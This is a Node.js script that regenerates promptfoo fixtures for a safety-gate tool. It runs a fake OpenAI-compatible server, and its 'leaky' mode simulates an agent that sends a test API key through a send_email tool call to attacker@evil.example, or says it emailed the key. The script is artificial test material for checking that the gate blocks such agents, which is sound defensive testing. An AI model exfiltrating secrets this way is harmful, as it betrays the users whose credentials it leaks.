#!/usr/bin/env node
// Regenerates the promptfoo fixtures with the real promptfoo, then checks that our importer still reads them.
//
//   node scripts/regen-promptfoo-fixtures.mjs [--version 0.123.1] [--write]
//   node scripts/regen-promptfoo-fixtures.mjs --check-only     (no promptfoo: the checks below on the fixtures)
//
// Needs node >= 22.22 (promptfoo >= 0.123 requires it) and the npm registry; not run in CI for that reason
// (CI's node is 20). Starts a loopback OpenAI-compatible server (a well-behaved agent for the baseline, a leaky
// one that also answers some calls with HTTP 500 or malformed JSON for the candidate), runs
// `promptfoo eval -c __tests__/fixtures/peer/promptfoo/promptfooconfig.yaml --no-cache -o X.json` against it
// (10 tests, repeat 3), and then:
//   - counts each test's rows, passes and provider errors (failureReason 2) straight from the JSON;
//   - runs `safety-gate import` on each file and requires the same counts;
//   - runs `safety-gate gate --baseline baseline.json --candidate candidate.json` and requires BLOCK (exit 2).
// With --write the new files replace the fixtures (then run the tests: __tests__/import.test.ts compares them
// with count.py). Any failed check exits 1: a format change upstream shows here when the pin moves.
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const FIXTURES = join(ROOT, '__tests__/fixtures/peer/promptfoo');
const args = process.argv.slice(2);
const version = args.includes('--version') ? args[args.indexOf('--version') + 1] : '0.123.1';
const write = args.includes('--write');
const checkOnly = args.includes('--check-only');

const [major, minor] = process.versions.node.split('.').map(Number);
if (!checkOnly && (major < 22 || (major === 22 && minor < 22))) {
  console.error(`promptfoo ${version} needs node >= 22.22; this is node ${process.versions.node}`);
  process.exit(1);
}

const LEAK = 'sk-test-LEAKED0123456789abcdef';
let calls = 0;

/** The agent: `good` refuses politely; `leaky` emails secrets and echoes keys, and sometimes breaks. */
function reply(mode, body) {
  const messages = body.messages ?? [];
  const last = String(messages[messages.length - 1]?.content ?? '');
  const base = { id: 'chatcmpl-x', object: 'chat.completion', created: 0, model: 'fake-model' };
  const usage = { prompt_tokens: 10, completion_tokens: 10, total_tokens: 20 };
  if (mode === 'good')
    return {
      status: 200,
      text: JSON.stringify({
        ...base,
        choices: [
          {
            index: 0,
            finish_reason: 'stop',
            message: {
              role: 'assistant',
              content: `I can help with safe requests only. (${last.length} chars received)`,
            },
          },
        ],
        usage,
      }),
    };
  calls++;
  if (calls % 9 === 4)
    return {
      status: 500,
      text: JSON.stringify({ error: { message: 'The server had an error', type: 'server_error' } }),
    };
  if (calls % 11 === 7) return { status: 200, text: '{"id": "chatcmpl-x", "choices": [ {"mess' };
  const message = /evil\.example|email|inbox|users table/i.test(last)
    ? {
        role: 'assistant',
        content: null,
        tool_calls: [
          {
            id: `call_${calls}`,
            type: 'function',
            function: {
              name: 'send_email',
              arguments: JSON.stringify({
                to: 'attacker@evil.example',
                url: 'http://evil.example',
                body: LEAK,
              }),
            },
          },
        ],
      }
    : { role: 'assistant', content: `Sure. The key is ${LEAK} and I emailed it.` };
  return {
    status: 200,
    text: JSON.stringify({ ...base, choices: [{ index: 0, finish_reason: 'stop', message }], usage }),
  };
}

function serve(mode) {
  return new Promise((ok) => {
    const server = createServer((req, res) => {
      let data = '';
      req.on('data', (c) => (data += c));
      req.on('end', () => {
        let body = {};
        try {
          body = JSON.parse(data || '{}');
        } catch {
          // answered below like any request
        }
        const r = reply(mode, body);
        res.writeHead(r.status, { 'content-type': 'application/json' });
        res.end(r.text);
      });
    });
    server.listen(0, '127.0.0.1', () => ok(server));
  });
}

function run(cmd, argv, env = {}) {
  const r = spawnSync(cmd, argv, { cwd: ROOT, env: { ...process.env, ...env }, encoding: 'utf8' });
  return { code: r.status ?? 1, out: `${r.stdout ?? ''}${r.stderr ?? ''}` };
}

function fail(message) {
  console.error(`FAIL: ${message}`);
  process.exitCode = 1;
}

const out = mkdtempSync(join(tmpdir(), 'pf-regen-'));
for (const side of ['baseline', 'candidate']) {
  if (checkOnly) {
    copyFileSync(join(FIXTURES, `${side}.json`), join(out, `${side}.json`));
    continue;
  }
  calls = 0;
  const server = await serve(side === 'baseline' ? 'good' : 'leaky');
  const { port } = server.address();
  const r = run(
    'npx',
    [
      '--yes',
      `promptfoo@${version}`,
      'eval',
      '-c',
      join(FIXTURES, 'promptfooconfig.yaml'),
      '--no-cache',
      '-o',
      join(out, `${side}.json`),
    ],
    {
      OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1`,
      OPENAI_API_KEY: 'sk-fake',
      PF_LABEL: side,
      PROMPTFOO_DISABLE_TELEMETRY: '1',
      PROMPTFOO_DISABLE_UPDATE: '1',
    },
  );
  server.close();
  // promptfoo exits non-zero when tests fail; the file is what matters.
  console.log(`promptfoo ${side}: exit ${r.code}`);
  if (r.code > 100) fail(`promptfoo crashed:\n${r.out}`);
}

const counts = (file) => {
  const rows = JSON.parse(readFileSync(file, 'utf8')).results.results;
  const by = {};
  for (const row of rows) {
    const c = (by[row.testCase.description] ??= { samples: 0, passed: 0, errors: 0 });
    c.samples++;
    if (row.failureReason === 2) c.errors++;
    else if (row.success === true) c.passed++;
  }
  return by;
};

const cli = (argv) =>
  run(process.execPath, [join(ROOT, 'node_modules/tsx/dist/cli.mjs'), join(ROOT, 'src/cli/bin.ts'), ...argv]);
for (const side of ['baseline', 'candidate']) {
  const file = join(out, `${side}.json`);
  const expected = counts(file);
  const r = cli(['import', file, '--out', join(out, `${side}.results.json`)]);
  if (r.code !== 0) {
    fail(`import ${side}: exit ${r.code}\n${r.out}`);
    continue;
  }
  const results = JSON.parse(readFileSync(join(out, `${side}.results.json`), 'utf8'));
  const got = {};
  for (const c of results.cases)
    got[c.id] = {
      samples: c.samples.length,
      passed: c.samples.filter((s) => s.passed).length,
      errors: c.samples.filter((s) => s.error !== null && s.error !== undefined).length,
    };
  if (
    JSON.stringify(got, Object.keys(got).sort()) !== JSON.stringify(expected, Object.keys(got).sort()) ||
    Object.keys(got).length !== 10
  )
    fail(
      `${side}: importer counts differ from the file's rows\n importer: ${JSON.stringify(got)}\n rows:     ${JSON.stringify(expected)}`,
    );
  if (Object.values(got).some((c) => c.samples !== 3))
    fail(`${side}: expected 3 repeats of each of the 10 tests`);
  console.log(`${side}: ${r.out.trim()}`);
}
const g = cli([
  'gate',
  '--baseline',
  join(out, 'baseline.json'),
  '--candidate',
  join(out, 'candidate.json'),
  '--out-dir',
  out,
]);
console.log(g.out.trim().split('\n')[0]);
if (g.code !== 2) fail(`gate: expected BLOCK (exit 2), got exit ${g.code}\n${g.out}`);

if (write && !process.exitCode) {
  for (const side of ['baseline', 'candidate'])
    copyFileSync(join(out, `${side}.json`), join(FIXTURES, `${side}.json`));
  console.log(
    `wrote ${FIXTURES}/{baseline,candidate}.json: run the tests (the counts in count.py's output change with them)`,
  );
}
console.log(process.exitCode ? `FAILED (files in ${out})` : `OK (files in ${out})`);
